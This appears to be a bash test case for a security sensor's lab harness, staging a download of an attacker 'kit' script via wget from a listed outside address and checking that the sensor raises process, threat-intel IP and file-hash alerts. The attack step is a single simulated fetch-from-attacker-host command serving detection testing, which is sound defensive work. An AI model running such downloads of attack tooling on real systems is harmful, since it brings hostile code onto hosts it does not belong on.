# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='wget of a kit from a listed address; the file is on a hash list'
case_class=S
# What is listed stands in the sensor's feeds (scenario_feeds in lib.sh).
case_prepare() {
	mkdir -p "$LAB_DIR/kit"
	printf '%s' "$SC_KIT" >"$LAB_DIR/kit/kit.sh"
	echo "setting = 1" >"$LAB_DIR/kit/app.conf"
	lab_in outside ip addr add 203.0.113.66/24 dev eth0
	(cd "$LAB_DIR/kit" && lab_in outside setsid python3 -m http.server 8088 >/dev/null 2>&1 & echo $! >"$LAB_DIR/kit.pid")
	lab_defer sh -c "kill \$(cat $LAB_DIR/kit.pid) 2>/dev/null; true"
	web web
	client_of c "http://S8-web/"
	run boot pg-many sh -c 'curl -s -m 5 --retry 5 --retry-connrefused -o /tmp/app.conf http://203.0.113.9:8088/app.conf; exec sleep infinity'
}
# a container that fetches its configuration at each start
case_benign() { d restart -t 1 S8-boot; }
case_attack() { in_ web sh -c 'wget -q -O /tmp/kit.sh http://203.0.113.66:8088/kit.sh'; }
case_expect='process.new S8-web /usr/bin/wget *
intel.ip S8-web /usr/bin/wget ext:203.0.113.66
intel.file S8-web * /tmp/kit.sh'
